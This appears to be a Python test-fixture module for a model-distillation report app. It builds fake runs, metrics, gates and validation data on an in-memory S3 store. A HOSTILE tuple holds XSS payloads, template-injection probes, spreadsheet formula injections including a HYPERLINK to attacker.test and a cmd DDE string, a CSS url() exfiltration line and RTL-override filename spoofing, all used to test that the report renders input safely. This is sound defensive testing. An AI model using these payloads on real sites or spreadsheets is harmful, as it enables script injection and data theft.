"""Complete runs for the report's tests: every candidate and every optional part, measured by the app's own scoring."""

import json
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any

from signalbox.dataset import examine
from signalbox.dataset_cost import add_cost
from signalbox.dataset_summary import dataset_summary
from signalbox.report import ReportData, gather
from signalbox.run import Moment, Run, State
from signalbox.scoring import Prediction, compare, score
from signalbox.store import GOLDEN, STUDENT_CURVE, TRAIN, VALIDATION, RunStore, predictions_of
from signalbox.task import Task
from tests.builders import BUCKET, LABELS, SIGNALS, dataset_object, labels_spec, line, spec, task
from tests.fakes import FakeS3

START = datetime(2026, 11, 21, 9, 14, 3, tzinfo=UTC)
RUN = "clip-search-0123456789ab"
LIVE_RUN = "clip-search-ba9876543210"
JOB = "customization/model-customization-job-abcdefghwxyz/"

HOSTILE = (
    "<script>window.owned = 1</script>",
    '<img src="https://attacker.test/x.png" onerror="window.owned = 2">',
    '"><svg onload="window.owned = 3"><title>x</title></svg>',
    "</title></style></script><iframe src=javascript:alert(4)></iframe>",
    '<a href="javascript:window.owned = 5">javascript:window.owned = 5</a>',
    "{{ 7 * 7 }}{% raw %}${7 * 7}#{7*7}<%= 7 * 7 %>",
    '=HYPERLINK("https://attacker.test/?" & A1, "look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "  =1+1",
    "\uff1d1+1",
    "safe \u202egpj.exe\u202c \u2066isolated\u2069",
    "$\\frac{1}{0}$ _x_ &amp; &lt;b&gt;",
    "url(#x); } * { background: url(https://attacker.test/) } /*",
    "w" * 512,
    "\N{FAMILY} 日本語 العربية",
)
"""Queries, reasons, models and labels that try to do something, and some that are only awkward."""


@dataclass
class Case:
    """A run as `promote` leaves it, on a bucket in memory."""

    run: Run
    task: Task
    metrics: dict[str, Any]
    s3: FakeS3

    @property
    def pipeline(self) -> Any:
        generations = SimpleNamespace(load=lambda identifier: None)
        return SimpleNamespace(store=RunStore(self.s3, BUCKET), generations=generations)

    def data(self) -> ReportData:
        return gather(self.run, self.task, self.metrics, self.pipeline)

    def put(self, name: str, content: bytes) -> None:
        self.s3.objects[f"runs/{self.run.id}/{name}"] = content


def weights_case(
    golden: int = 60, train: int = 400, *, held: bool = False, hostile: Sequence[str] = (), **changes: Any
) -> Case:
    """Return a run of a task for weights; each hostile text stands once as a query, and as much else as it can."""
    queries = [*hostile, *(f"query number {number}" for number in range(golden - len(hostile)))]

    def answer(number: int, off: float) -> str:
        rest = (number % 5) / 10
        weights = [0.6 - rest + off, 0.3 - off, 0.1 + rest]
        reason = hostile[number % len(hostile)] if hostile else f"reason {number}"
        return json.dumps(
            dict(zip(SIGNALS, [round(w, 4) for w in weights], strict=True)) | {"reasoning": reason}
        )

    said: dict[str, Callable[[int], str]] = {
        "embedded": lambda number: answer(number, 0.1 * (number % 7 == 0)),
        "bedrock": lambda number: answer(number, 0.2 * (number % 3 == 0)),
        "base": lambda number: f"Here you are: {answer(number, 0.3)}" if number % 3 else answer(number, 0.3),
        "baseline": lambda number: answer(number, 0.1 * (number % 2)),
        "live": lambda number: answer(number, 0.2 * (number % 4 == 0)),
    }
    case = _case(task(spec(**changes)), queries, lambda number: answer(number, 0), said, held, hostile)
    case.put(TRAIN, b"".join(line(f"training query {number}", answer(number, 0)) for number in range(train)))
    return case


def labels_case(golden: int = 60, *, labels: Sequence[str] = LABELS, hostile: Sequence[str] = ()) -> Case:
    """Return a run of a task for labels; the hostile texts become queries and labels, cut to what a label may be."""
    names = [*labels, *dict.fromkeys(text.strip()[:100] for text in hostile)]
    queries = [*hostile, *(f"query number {number}" for number in range(golden - len(hostile)))]

    def right(number: int) -> str:
        return names[number % len(names)]

    said: dict[str, Callable[[int], str]] = {
        "bedrock": lambda number: names[(number // 2) % len(names)] if number % 4 == 0 else right(number),
        "base": lambda number: "I would say: " + right(number),
    }
    spec_of_labels = labels_spec(output={"labels": names})
    case = _case(task(spec_of_labels), queries, right, said, True, hostile)
    case.put(TRAIN, b"".join(line(f"training query {number}", right(number)) for number in range(200)))
    return case


def _case(
    task: Task,
    queries: Sequence[str],
    reference: Callable[[int], str],
    said: dict[str, Callable[[int], str]],
    held: bool,
    hostile: Sequence[str],
) -> Case:
    predictions = {
        name: _predictions(name, queries, reference, answer, task) for name, answer in said.items()
    }
    models = {
        "bedrock": hostile[0] if hostile else "amazon.nova-micro-v1:0:128k (distilled)",
        "embedded": "embedded student",
    }
    candidates = {
        name: {
            "model": models.get(name, f"model-of-{name}"),
            **score(answers, task.output),
            "cost": _cost(name),
        }
        for name, answers in predictions.items()
    }
    case = Case(_run(held, hostile), task, _metrics(task, candidates, predictions, held, hostile), FakeS3())
    case.put(GOLDEN, b"".join(line(query, reference(number)) for number, query in enumerate(queries)))
    for name, answers in predictions.items():
        kept_as = f"live-{LIVE_RUN}" if name == "live" else name
        content = "".join(answer.model_dump_json() + "\n" for answer in answers)
        case.put(predictions_of(kept_as), content.encode())
    found = _quality(task, queries, reference)
    case.put(VALIDATION, json.dumps(_validation(task, hostile) | found).encode())
    case.metrics["dataset"] = dataset_summary(case.run, found, case.pipeline)
    case.put(
        STUDENT_CURVE,
        _csv("step,training_loss,validation_loss", [(n, 3 / n, 3 / n + 0.2) for n in range(1, 61)]),
    )
    losses = [(n, 1, 2 / n, 7.4 / n) for n in range(1, 41)]
    case.put(
        JOB + "training_artifacts/step_wise_training_metrics.csv",
        _csv("step_number,epoch_number,training_loss,perplexity", losses),
    )
    case.put(
        JOB + "validation_artifacts/post_fine_tuning_validation/validation_metrics.csv",
        _csv("step_number,epoch_number,validation_loss,perplexity", losses[19::20]),
    )
    return case


def _predictions(
    name: str,
    queries: Sequence[str],
    reference: Callable[[int], str],
    answer: Callable[[int], str],
    task: Task,
) -> list[Prediction]:
    speed = {"embedded": 0.2, "bedrock": 340.0, "base": 330.0, "baseline": 1100.0, "live": 350.0}[name]
    predictions = []
    for number, query in enumerate(queries):
        said = Prediction(
            query=query,
            reference=reference(number),
            text=answer(number),
            latency_ms=speed * (1 + number % 10 / 10),
            input_tokens=0 if name == "embedded" else 40,
            output_tokens=0 if name == "embedded" else 60,
            alone=number < 50,
        )
        usable = said.answer(task.output) is not None
        predictions.append(said if usable else said.model_copy(update={"error": "unusable answer"}))
    return predictions


def _cost(name: str) -> dict[str, Any]:
    if name == "live":
        return {"unknown": "no price of it is known", "infrastructure_per_million": 1.35}
    model = {"embedded": 0.0, "bedrock": 9.8, "base": 9.8, "baseline": 312.0}[name]
    return {
        "per_1000_queries": round((model + 1.35) / 1000, 6),
        "per_million_queries": model + 1.35,
        "model_per_million": model,
        "infrastructure_per_million": 1.35,
        "currency": "USD",
        "prices_of": "2026-10-05",
        "region": "us-east-1",
    }


def _metrics(
    task: Task,
    candidates: dict[str, Any],
    predictions: dict[str, list[Prediction]],
    held: bool,
    hostile: Sequence[str],
) -> dict[str, Any]:
    measure = "accuracy" if task.output_kind == "labels" else "mae"
    differences = {
        name: asdict(compare(predictions["bedrock"], rival, task.output))
        for name, rival in predictions.items()
        if name != "bedrock"
    }
    with_live = (
        {"compared_with_live": {"run_id": LIVE_RUN, **differences.pop("live")}}
        if "live" in differences
        else {}
    )
    candidates["bedrock"]["judge"] = {
        "mean": 4.3,
        "spread": 0.81,
        "graded": 58,
        "null": 2,
        "handed_over": 60,
        "scale": "raw",
        "model": "us.amazon.nova-pro-v1:0",
    }
    candidates["bedrock"]["intervals"]["judge"] = (4.1, 4.5)
    value = candidates["bedrock"][measure]
    return {
        "version": 1,
        "run_id": RUN,
        "task": task.name,
        "output": task.output_kind,
        "verdict": "HELD" if held else "PROMOTED",
        "served_first": "bedrock",
        "golden": len(predictions["bedrock"]),
        "golden_source": "split off this dataset",
        "measured": {"at": "2026-11-21T10:02:00Z", "region": "us-east-1", "where": "on AWS, in us-east-1"},
        "candidates": candidates,
        "not_compared": {} if "live" in candidates else {"live": hostile[0] if hostile else "its student is gone"},
        "differences": [
            {"candidate": "bedrock", "measure": measure}
            | {key: found[key] for key in ("queries", "worse_by", "low", "high", "verdict")}
            | {"rival": name}
            for name, found in differences.items()
        ],
        **with_live,
        "gates": [
            _gate("valid_share", 1.0, 0.99, reason="1, at least 0.99 reached"),
            _gate(measure, value, 0.06, passed=not held, reason=hostile[1] if hostile else "said in words"),
            _gate("cost_per_1000_queries", 0.01115, 0.05, reason="0.01115, at most 0.05 reached"),
        ],
        "provenance": {
            "prompt_sha256": "0123456789abcdef" * 4,
            "dataset": {"uri": f"s3://{BUCKET}/datasets/d.jsonl", "version_id": "v1", "etag": "e", "size": 9},
            "models": {"teacher": "us.amazon.nova-pro-v1:0", "student": "amazon.nova-micro-v1:0:128k"},
            "region": "us-east-1",
            "started": START.isoformat(),
            "ended": (START + timedelta(hours=1)).isoformat(),
        },
        "run_cost": {
            "training": 3.62,
            "evaluation": 0.21,
            "judge": {"unknown": "no price of it is known"},
            "total": {"unknown": "no price of the judge is known"},
            "currency": "USD",
            "prices_of": "2026-10-05",
        },
    }  # fmt: skip


def _gate(name: str, value: float, limit: float, *, passed: bool = True, reason: str) -> dict[str, Any]:
    at_least = name in ("valid_share", "accuracy")
    verdict = {"at_least": at_least, "passed": passed, "reason": reason}
    return {"name": name, "value": value, "limit": limit} | verdict


def _run(held: bool, hostile: Sequence[str]) -> Run:
    states = [State.RECEIVED, State.ACCEPTED, State.TRAINING, State.TRAINED, State.DEPLOYING, State.DEPLOYED]
    states += [State.EVALUATING, State.EVALUATED, State.HELD if held else State.PROMOTED]
    history = [
        Moment(
            state=state,
            at=START + timedelta(minutes=7 * number),
            note=hostile[number] if hostile else "said in words",
        )
        for number, state in enumerate(states)
    ]
    key = "datasets/clip-search/" + (hostile[0].replace("/", "") if hostile else "drop.jsonl")
    return Run(
        id=RUN,
        task="clip-search",
        state=states[-1],
        created_at=START,
        updated_at=history[-1].at,
        dataset=dataset_object(key=key, size=437_670),
        history=history,
    )


def _validation(task: Task, hostile: Sequence[str]) -> dict[str, Any]:
    names = list(getattr(task.output, "labels", SIGNALS))
    problems = [{"line": 3 + number, "field": text, "reason": text} for number, text in enumerate(hostile)]
    return {
        "counts": {"lines": 483, "invalid": 3, "records": 480, "labelled": 470, "prompt_only": 10, "queries": 470,
                   "duplicates": 10, "contradictions": 1, "leaked": 0, "golden": 60, "train": 420},
        "balance": {name: round(1 / len(names), 4) for name in names},
        "golden_source": hostile[6] if hostile else "split off this dataset",
        "problems": problems or [{"line": 3, "field": "messages", "reason": "is missing"}],
        "warnings": list(hostile) or ["near-duplicates: 12% of the queries", "labels that never lead: read"],
    }  # fmt: skip


def _quality(task: Task, queries: Sequence[str], reference: Callable[[int], str]) -> dict[str, Any]:
    """Return what validation finds odd in a dataset of the queries in which each kind of oddity stands."""
    lines = [line(query, reference(number)) for number, query in enumerate(queries)]
    again = [line(query, reference(number + 2)) for number, query in enumerate(queries)]  # contradicts
    near = [
        line(f"the restoration of the old cathedral in {place}", reference(0))
        for place in ("may", "maya", "mays")
    ]
    dataset = examine([b"".join([*lines, *again, *near, *lines])], task)
    add_cost(dataset, task, "us-east-1")
    return dataset.quality


def _csv(head: str, rows: Sequence[Sequence[float]]) -> bytes:
    return "\n".join([head, *(",".join(map(str, row)) for row in rows), ""]).encode()
